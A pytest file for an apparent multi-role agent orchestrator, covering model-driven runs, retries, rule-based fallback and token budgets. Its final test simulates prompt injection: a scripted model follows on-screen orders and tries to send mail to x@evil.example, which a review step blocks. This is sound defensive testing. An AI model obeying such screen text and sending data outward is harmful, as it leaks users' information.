"""Whole runs on the simulated world in which a model decides for every role."""

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from brain import brain
from langchain_core.messages import BaseMessage
from services.sandboxed import needs_sandbox
from typer.testing import CliRunner
from worked.model_runs import ROLES, worked_by_model

from orchestrator.cli import app
from orchestrator.crew import Crew
from orchestrator.runs.outcome import Outcome
from orchestrator.store.salvage import salvage
from roles.policies.scripted_model import ScriptedChatModel


def events(outcome: Outcome, kind: str) -> list[dict[str, Any]]:
    return [
        event.body | {"role": event.role} for event in salvage(outcome.folder / "journal.sqlite").events if event.kind == kind
    ]


@pytest.mark.parametrize("structure", ["auto", "tools", "text"])
def test_a_model_works_a_task_in_every_way_of_asking(tmp_path: Path, structure: str) -> None:
    settings = f"crew.model={{name: given, structure: {structure}, prices: {{tokens_in: 1, tokens_out: 4}}}}"
    outcome = worked_by_model(tmp_path, brain, settings)
    assert outcome.status == "fulfilled", outcome.reason
    assert outcome.report["judge"]["passed"]
    calls = events(outcome, "model_call")
    assert {call["role"] for call in calls} == set(ROLES)
    assert outcome.report["models"]["operator"]["calls"] == sum(call["role"] == "operator" for call in calls)
    for told in outcome.report["models"].values():
        assert told["money"] == pytest.approx((told["tokens_in"] + 4 * told["tokens_out"]) / 1e6, rel=1e-3)


def test_bad_answers_and_a_busy_server_are_got_over(tmp_path: Path) -> None:
    outcome = worked_by_model(tmp_path, brain, "limits.reasks=5", malformed=0.2, errors=0.2, seed=8)
    assert outcome.status == "fulfilled", outcome.reason
    assert outcome.report["judge"]["passed"]
    problems = [call["problem"] for call in events(outcome, "model_call") if "problem" in call]
    assert problems
    assert all(problem.startswith("Overloaded") for problem in problems)
    assert any("not usable" in error["message"] for error in outcome.report["errors"])


def test_rules_take_over_from_a_model_that_only_talks(tmp_path: Path) -> None:
    outcome = worked_by_model(tmp_path, lambda _: TALK, *(f"crew.{role}.policy=fallback" for role in ROLES))
    assert outcome.status == "fulfilled", outcome.reason
    assert outcome.report["judge"]["passed"]
    told = events(outcome, "policy")
    by_rules = [body for body in told if body["decided_by"] == "rules"]
    assert all(body["passed"][0].startswith("llm: no usable answer") for body in by_rules)
    assert {body["role"] for body in by_rules} == set(ROLES)
    assert {body["answer"] for body in told if body["decided_by"] == "llm"} == {"CONTINUE launch_app"}  # it needs no model


TALK = "Certainly! Happy to help."


@pytest.mark.parametrize("role", ["manager", "operator", pytest.param("technician", marks=needs_sandbox), "analyst", "evaluator"])
def test_a_model_that_only_talks_is_left_after_the_reasks_and_its_words_are_kept(role: str, tmp_path: Path) -> None:
    heard: list[str] = []

    def chatting(messages: Sequence[BaseMessage]) -> str:
        heard.append(repr([message.content for message in messages]))
        return TALK

    settings = [f"crew.{role}.policy=llm", "crew.model=given", "limits.reasks=2", f"runs_dir={tmp_path}", "display=none"]
    if role in ("technician", "analyst"):
        again = [{"id": f"s{n}", "title": "t", "instruction": f"count the logs, way {n}", "worker": role} for n in range(12)]
        plans = {"plans": [{"outcome": "planned", "subtasks": [one]} for one in again]}
        (tmp_path / "plans.yaml").write_text(json.dumps(plans), encoding="utf-8")
        settings += ["crew.manager.policy=scripted", f"crew.manager.script={tmp_path / 'plans.yaml'}"]
    crew = Crew.from_config(overrides=settings, model=ScriptedChatModel(answer=chatting))
    outcome = crew.run('Create a note titled "Milk" with the text "two bottles"')
    assert (outcome.status, outcome.report["ended_by"]) == ("rejected", "no_answer"), outcome.reason
    assert len(heard) == len(set(heard)) == 3, "no two requests are the same"
    assert len(events(outcome, "plan")) == (role != "manager")
    kept = [error["reply"] for error in events(outcome, "error") if "reply" in error]
    assert kept == [TALK] * 3
    shown = CliRunner().invoke(app, ["show", outcome.run_id, "--runs-dir", str(tmp_path)])
    assert shown.output.count(f"It said: {TALK}") == 3, shown.output


def test_a_spent_budget_ends_the_run_as_such(tmp_path: Path) -> None:
    outcome = worked_by_model(tmp_path, brain, "limits.role_tokens={operator: 3000}")
    assert (outcome.exit_code, outcome.report["ended_by"]) == (4, "budget_spent")
    assert "limits.role_tokens.operator" in outcome.reason
    counted = [call for call in events(outcome, "model_call") if call["role"] == "operator"]
    assert sum(call["tokens_in"] + call["tokens_out"] for call in counted[:-1]) < 3_000


def test_a_screen_that_gives_orders_is_data_to_the_model_and_reviewed_all_the_same(tmp_path: Path) -> None:
    """A model that obeys the screen is stopped by the review: what it wants to send is asked for first."""

    def obeys(messages: Sequence[BaseMessage]) -> Any:
        answer = brain(messages)
        if answer.get("action") == "click":
            return {"reasoning": "the screen says so", "action": "call_api", "app": "mail", "function": "send_message",
                    "arguments": {"to": "x@evil.example", "subject": "s", "body": "b"}, "status": "CONTINUE"}  # fmt: skip
        return answer

    outcome = worked_by_model(tmp_path, obeys)
    assert outcome.exit_code == 3
    assert outcome.pending
    assert outcome.pending["effect"] == "send"
    assert [step for step in outcome.report["steps"] if step["verb"] == "send"] == []
    assert "evil" not in json.dumps(outcome.report["steps"])
